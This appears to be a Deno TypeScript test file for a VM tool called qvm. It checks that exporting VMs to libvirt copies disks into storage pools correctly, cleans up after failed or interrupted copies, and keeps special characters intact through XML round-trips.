    // The first start makes the disks; while the VM runs, its disks are not carried.
    await env.ok(["start", name, ...WAIT_READY]);
    const running = await env.run(["export", name, "--to", uri, "--copy-storage", "--pool", pool]);
    assert.equal(running.code, 3, running.stderr);
    includes(running.stderr, "stop it before export --copy-storage");
    assert.deepEqual(poolFiles(poolDir), []);
    await env.ok(["stop", name]);
    await mark(overlay, "qcow2", 0x22, "1M");
  } else {
    await Deno.mkdir(join(env.dataDir, "disks", id), { recursive: true });
    const disks = [["-f", "qcow2", "-b", base, "-F", "raw", data], ["-f", "raw", scratch, "8M"]];
    for (const args of disks) {
      assert.equal((await sh("qemu-img", ["create", "-q", ...args])).code, 0);
    }
  }
  await mark(data, "qcow2", 0x44, "1M");
  await mark(scratch, "raw", 0x55, "0");

  const exported = await env.run([
    "export",
    name,
    "--to",
    uri,
    "--copy-storage",
    "--pool",
    pool,
    "--start",
    "--json",
  ]);
  assert.equal(exported.code, 0, exported.stderr);
  const volumes: Record<string, string> = {
    data: `${name}-data.qcow2`,
    base: `${name}-data-base.raw`,
    scratch: `${name}-scratch.raw`,
    ...(full
      ? { overlay: `${name}-image-overlay.qcow2`, image: `${name}-image-overlay-base.qcow2` }
      : {}),
  };
  assert.deepEqual(
    [...JSON.parse(exported.stdout).volumes].sort(),
    Object.values(volumes).sort(),
  );
  assert.deepEqual(poolFiles(poolDir), Object.values(volumes).sort());
  const at = (volume: string) => join(poolDir, volume);
  // The overlays name their images' volumes, not the files here.
  assert.equal(await backingOf(at(volumes.data)), at(volumes.base));
  if (full) assert.equal(await backingOf(at(volumes.overlay)), at(volumes.image));
  await guestReady(lv, name);
  const opened = await openedByDomain(lv, name);
  for (const volume of Object.values(volumes)) {
    assert.ok(opened.includes(at(volume)), `QEMU has not opened ${volume}: ${opened.join(" ")}`);
  }
  for (const file of [image, base, data, overlay, scratch]) {
    assert.ok(!opened.includes(file), `QEMU opened ${file} here, not its volume`);
  }
  assert.equal((await lv.virsh("destroy", name)).code, 0);

  // What was written before the export, read back from what libvirt hands out.
  const marks: Record<string, [string, [number, string][]]> = {
    [volumes.data]: ["qcow2", [[0x33, "0"], [0x44, "1M"]]],
    [volumes.scratch]: ["raw", [[0x55, "0"]]],
  };
  if (full) marks[volumes.overlay] = ["qcow2", [[0x11, "0"], [0x22, "1M"]]];
  for (const [volume, [format, expected]] of Object.entries(marks)) {
    const local = join(env.root, `down-${volume}`);
    const down = await lv.virsh("vol-download", "--pool", pool, volume, local);
    assert.equal(down.code, 0, down.stderr);
    await holds(local, format, expected);
  }
  if (!full) return;

  // Flattened: one self-contained volume per overlay, with all the data.
  assert.equal((await lv.virsh("undefine", name)).code, 0);
  for (const volume of Object.values(volumes)) {
    assert.equal((await lv.virsh("vol-delete", "--pool", pool, volume)).code, 0);
  }
  const flat = await env.run([
    "export",
    name,
    "--to",
    uri,
    "--copy-storage",
    "--pool",
    pool,
    "--flatten",
  ]);
  assert.equal(flat.code, 0, flat.stderr);
  assert.deepEqual(poolFiles(poolDir), [volumes.data, volumes.overlay, volumes.scratch].sort());
  for (const [volume, [format, expected]] of Object.entries(marks)) {
    assert.equal(await backingOf(at(volume)), undefined, volume);
    await holds(at(volume), format, expected);
  }
  assert.deepEqual(
    [...Deno.readDirSync(join(env.dataDir, "disks"))].filter((e) =>
      e.name.startsWith(".qvm-export")
    ),
    [],
    "a private copy was left behind",
  );
}

libvirtTest(
  "export --copy-storage: a stopped VM's disks become volumes it boots from, holding their data",
  async (env, lv) => {
    const poolDir = join(env.root, "pool");
    await dirPool(lv, "qvmtest", poolDir);
    await copyAndBoot(env, lv, {
      uri: lv.uri,
      name: uniqueName("cpy"),
      pool: "qvmtest",
      poolDir,
      full: true,
    });
  },
);

libvirtTest(
  "export --copy-storage over qemu+ssh:// carries the disks through sshd on 127.0.0.1",
  async (env, lv) => {
    const sshd = await startSshd(lv);
    try {
      const poolDir = join(env.root, "pool");
      await dirPool(lv, "qvmtest", poolDir);
      await copyAndBoot(env, lv, {
        uri: sshd.uri,
        name: uniqueName("cps"),
        pool: "qvmtest",
        poolDir,
        // image:, a running VM and flattening are the same over any URI: the test above.
        full: false,
      });
    } finally {
      await sshd.stop();
    }
  },
  { over: "ssh" },
);

/** Runs qvm on a pseudo-terminal (util-linux `script`); `interruptWhen` sends it SIGINT. */
async function runInTty(
  env: QvmEnv,
  args: string[],
  interruptWhen: (text: string) => boolean,
): Promise<{ code: number; text: string }> {
  const word = (s: string) => `'${s.replaceAll("'", `'\\''`)}'`;
  const main = new URL("../../main.ts", import.meta.url).pathname;
  const command = "exec " +
    [Deno.execPath(), "run", "-A", "--quiet", main, ...args].map(word).join(" ");
  const child = new Deno.Command("script", {
    args: ["-qfec", command, "/dev/null"],
    env: { QVM_DATA_DIR: env.dataDir, QVM_RUNTIME_DIR: env.runtimeDir, COLUMNS: "200" },
    stdin: "null",
    stdout: "piped",
    stderr: "null",
  }).spawn();
  let text = "";
  let sent = false;
  const decoder = new TextDecoder();
  for await (const chunk of child.stdout) {
    text += decoder.decode(chunk, { stream: true });
    if (!sent && interruptWhen(text)) {
      sent = true;
      const kids = Deno.readTextFileSync(`/proc/${child.pid}/task/${child.pid}/children`);
      for (const pid of kids.trim().split(/\s+/).filter(Boolean)) Deno.kill(Number(pid), "SIGINT");
    }
  }
  return { code: (await child.status).code, text };
}

libvirtTest(
  "export --copy-storage refuses a missing pool or a taken volume with nothing made, and undoes a failed or interrupted copy",
  async (env, lv) => {
    const poolDir = join(env.root, "pool");
    await dirPool(lv, "qvmtest", poolDir);
    // libvirt refuses this domain (no such emulator) once its disks are uploaded.
    const big = join(env.root, "big.raw");
    const small = join(env.root, "small.qcow2");
    assert.equal((await sh("qemu-img", ["create", "-q", "-f", "raw", big, "256M"])).code, 0);
    await mark(big, "raw", 0x66, "0");
    const fill = await sh("qemu-io", ["-f", "raw", "-c", "write -P 0x77 0 256M", big]);
    assert.equal(fill.code, 0, fill.stderr);
    assert.equal((await sh("qemu-img", ["create", "-q", "-f", "qcow2", small, "8M"])).code, 0);
    const yaml = [
      "name: side",
      "binary: /nonexistent/qemu-system-x86_64",
      "arguments: [{accel: tcg}]",
      "storage:",
      `  - {name: small, type: qcow2, file: ${small}}`,
      `  - {name: big, type: raw, file: ${big}}`,
    ].join("\n");
    await env.ok(["add", await env.file("side.yaml", yaml)]);
    const exportTo = (pool: string) =>
      env.run(["export", "side", "--to", lv.uri, "--copy-storage", "--pool", pool]);
    const oneLine = (result: { stderr: string }) =>
      assert.equal(result.stderr.trim().split("\n").length, 1, result.stderr);

    const noPool = await exportTo("nosuchpool");
    assert.equal(noPool.code, 3, noPool.stderr);
    oneLine(noPool);
    includes(noPool.stderr, "there is no storage pool 'nosuchpool'");

    const taken = await lv.virsh("vol-create-as", "qvmtest", "side-big.raw", "1M");
    assert.equal(taken.code, 0, taken.stderr);
    const exists = await exportTo("qvmtest");
    assert.equal(exists.code, 3, exists.stderr);
    oneLine(exists);
    includes(exists.stderr, "volume 'side-big.raw' already exists in pool 'qvmtest'");
    assert.deepEqual(poolFiles(poolDir), ["side-big.raw"]);
    assert.equal(Deno.statSync(join(poolDir, "side-big.raw")).size, 1024 * 1024);
    assert.equal((await lv.virsh("vol-delete", "--pool", "qvmtest", "side-big.raw")).code, 0);

    const refused = await exportTo("qvmtest");
    assert.equal(refused.code, 1, refused.stderr);
    oneLine(refused);
    includes(refused.stderr, "refused 'side'");
    includes(refused.stderr, "the 2 volumes made in pool 'qvmtest' were deleted");
    assert.deepEqual(poolFiles(poolDir), []);

    // Ctrl-C on a terminal, once the progress line shows: the volumes made are deleted.
    const tty = await runInTty(
      env,
      ["export", "side", "--to", lv.uri, "--copy-storage", "--pool", "qvmtest"],
      (text) => text.includes("side-big.raw"),
    );
    assert.equal(tty.code, 130, tty.text);
    includes(tty.text, "copying side to pool 'qvmtest': side-big.raw");
    includes(tty.text, "export interrupted: nothing was defined at");
    assert.deepEqual(poolFiles(poolDir), []);
    assert.equal((await lv.virsh("list", "--all", "--name")).stdout.trim(), "");
  },
);

libvirtTest(
  "a cloud VM defined in libvirt and read back with virsh dumpxml is still qvm's own config",
  async (env, lv) => {
    const yaml = [
      "name: cloudy",
      "memory: 256M",
      "arguments: [{accel: tcg}]",
      "network:",
      '  ports: ["auto:22", "127.0.0.1:18081:80/tcp"]',
      "guest_agent: true",
    ].join("\n");
    await env.ok(["add", await env.file("cloudy.yaml", yaml)]);
    const file = join(env.root, "cloudy.xml");
    await env.ok(["export", "cloudy", "-o", file]);
    await validates(file);
    assert.deepEqual((await lv.virsh("define", file)).code, 0);
    const dumped = await lv.virsh("dumpxml", "cloudy");
    assert.deepEqual(dumped.code, 0, dumped.stderr);
    const back = await env.file("dumped.xml", dumped.stdout);
    const read = await env.run(["import-libvirt", back, "--name", "cloudy-back", "--json"]);
    assert.deepEqual(read.code, 0, read.stderr);
    // libvirt keeps one <metadata> element per namespace: qvm's two must both survive.
    assert.deepEqual(JSON.parse(read.stdout).exact, true, dumped.stdout);
    assert.deepEqual(await dryRun(env, "cloudy-back"), await dryRun(env, "cloudy"));
  },
);

Deno.test({
  name:
    "exported XML keeps tabs and line breaks through xmllint, libvirt and back; a control character is refused",
  ignore: ignoreBecause(LIBVIRT_MISSING && `libvirt tests: ${LIBVIRT_MISSING}`),
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await withEnv(async (env) => {
      const disk = join(env.root, "a\tb.qcow2");
      const share = join(env.root, "s\th");
      await Deno.mkdir(share);
      const append = "console=ttyS0\tquiet\nx=1\ry=2";
      const fwCfg = "name=opt/qvm/x,string=a\tb\nc";
      const yaml = [
        "name: spaced",
        "arguments:",
        "  - accel: tcg",
        "  - kernel: /boot/vmlinuz",
        `  - append: ${JSON.stringify(append)}`,
        "storage:",
        `  - {name: d, type: qcow2, size: 16M, file: ${JSON.stringify(disk)}}`,
        `  - {name: s, type: virtfs, path: ${
          JSON.stringify(share)
        }, mount_tag: s, security_model: none}`,
        `args: ["-fw_cfg", ${JSON.stringify(fwCfg)}]`,
      ].join("\n");
      await env.ok(["add", await env.file("spaced.yaml", yaml)]);
      const file = join(env.root, "spaced.xml");
      const exported = await env.run(["export", "spaced", "-o", file]);
      assert.equal(exported.code, 0, exported.stderr);
      const wellFormed = await sh("xmllint", ["--noout", file]);
      assert.equal(wellFormed.code, 0, wellFormed.stderr);
      await validates(file);
      // The values as the config has them, read back by qvm from its file and from libvirt's.
      const expect = async (vm: string) => {
        const config = JSON.parse(await env.ok(["inspect", vm, "--json"])).config;
        const args = config.arguments as Record<string, string>[];
        assert.equal(args.find((a) => "append" in a)?.append, append, vm);
        assert.equal(config.storage.find((d: { name: string }) => d.name === "d").file, disk, vm);
        assert.equal(config.storage.find((d: { name: string }) => d.name === "s").path, share, vm);
        assert.ok(
          JSON.stringify(config).includes(JSON.stringify(fwCfg).slice(1, -1)),
          `${vm}: ${JSON.stringify(config)}`,
        );
      };
      const plain = await env.file(
        "spaced-plain.xml",
        (await Deno.readTextFile(file)).replace(/<metadata>[\s\S]*<\/metadata>/, ""),
      );
      await env.ok(["import-libvirt", plain, "--name", "from-file"]);
      await expect("from-file");
      const lv = await startLibvirt();
      try {
        const defined = await lv.virsh("define", plain);
        assert.equal(defined.code, 0, defined.stderr);
        const dumped = await env.file("dumped.xml", (await lv.virsh("dumpxml", "spaced")).stdout);
        await env.ok(["import-libvirt", dumped, "--name", "from-libvirt"]);
        await expect("from-libvirt");
      } finally {
        await lv.stop();
      }

      await env.ok([
        "add",
        await env.file("ctl.yaml", 'name: ctl\narguments:\n  - append: "a\\x01b"\n'),
      ]);
      const out = join(env.root, "ctl.xml");
      const refused = await env.run(["export", "ctl", "-o", out]);
      assert.equal(refused.code, 3, refused.stderr);
      assert.equal(refused.stderr.trim().split("\n").length, 1, refused.stderr);
      includes(refused.stderr, "<cmdline> holds U+0001");
      assert.ok(!exists(out), "no XML file was written");
      const printed = await env.run(["export", "ctl"]);
      assert.equal(printed.code, 3, printed.stderr);
      assert.equal(printed.stdout, "");
    });
  },
});

Deno.test("doctor reports virsh: its version, or a warning when it is missing", async () => {
  await withEnv(async (env) => {
    const bin = await Deno.makeTempDir({ dir: env.root });
    for (const tool of ["qemu-system-x86_64", "qemu-img"]) {
      const found = (await sh("sh", ["-c", `command -v ${tool}`])).stdout.trim();
      await Deno.symlink(found, join(bin, tool));
    }
    const without = await env.run(["doctor", "--json"], { env: { PATH: bin } });
    const check = JSON.parse(without.stdout).checks.find((c: { check: string }) =>
      c.check === "virsh"
    );
    assert.equal(check.status, "warning");
    includes(check.fix, "libvirt-clients");
    if (LIBVIRT_MISSING === undefined) {
      const withVirsh = JSON.parse((await env.run(["doctor", "--json"])).stdout).checks
        .find((c: { check: string }) => c.check === "virsh");
      assert.equal(withVirsh.status, "ok");
      assert.match(withVirsh.what, /^virsh: \d+\.\d+/);
    }
  });
});
